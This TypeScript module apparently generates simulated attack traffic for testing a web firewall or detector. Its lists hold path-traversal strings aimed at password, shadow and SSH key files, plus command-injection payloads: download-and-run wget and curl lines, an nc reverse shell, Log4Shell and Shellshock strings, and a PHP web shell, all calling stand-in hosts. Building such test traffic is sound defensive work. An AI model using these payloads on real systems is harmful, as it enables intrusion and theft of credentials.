import {type Chapter, createDice, type Dice, encode, spread, type Step} from '../script.ts';
import {makeNoise} from './background.ts';

const files = [
	'../../../../etc/passwd',
	'..%2f..%2f..%2f..%2fetc%2fshadow',
	'....//....//....//etc/hosts',
	'..%255c..%255cwindows%255cwin.ini',
	'/proc/self/environ',
	'../../../../var/log/nginx/error.log%00.png',
	'file:///home/deploy/.ssh/id_rsa',
	'php://filter/convert.base64-encode/resource=config.php',
];

const commands = [
	';cat /etc/passwd',
	'| wget http://203.0.113.66/drop.sh -O /tmp/d; sh /tmp/d',
	'$(curl -s http://198.51.100.66/c|bash)',
	'`nc -e /bin/sh 203.0.113.66 4444`',
	'&& powershell -enc SQBFAFgA',
	'; python3 -c "import os; os.system(\'id\')"',
	'<?php system($_GET["x"]); ?>',
	'${jndi:ldap://203.0.113.66:1389/Exploit}',
	'() { :;}; /bin/bash -c "uname -a"',
	'http://198.51.100.66/shell.txt?',
];

const length = 34_000;

const clients = ['192.0.2.166', '203.0.113.150', '2001:db8:c0de::99'];

function makeAttack(dice: Dice, at: number): Step {
	const client = dice.pick(clients);
	const common = {at, client, connection: `${client} ${dice.below(2)}`};
	if (dice.roll() > at / length) {
		const file = dice.pick(files);
		return dice.roll() < 0.3
			? {...common, host: 'blog.test', target: `/theme/${file}`}
			: {...common, target: `/download?file=${file}&type=pdf`};
	}

	const command = dice.pick(commands);
	switch (dice.below(4)) {
		case 0: {
			return {...common, target: '/status', headers: {'X-Api-Version': command}, userAgent: command};
		}

		case 1: {
			const body = `address=${encode(`192.0.2.1${command}`)}&count=3`;
			return {...common, host: 'api.test', method: 'POST', target: '/v2/ping', body};
		}

		default: {
			return {...common, target: `/convert?image=cat.png${encode(command)}&size=40`};
		}
	}
}

/**
First files are asked for, then programs are to be run.
*/
export function makeTraversalChapter(): Chapter {
	const dice = createDice(505);
	const attacks = spread(dice, 115, 300, length).map(at => makeAttack(dice, at));
	return {
		title: 'path traversal and command injection',
		name: 'traversal-and-commands',
		engine: 'On',
		paranoia: 1,
		threshold: 5,
		length,
		steps: [...makeNoise(dice, 12, 0, length), ...attacks],
	};
}
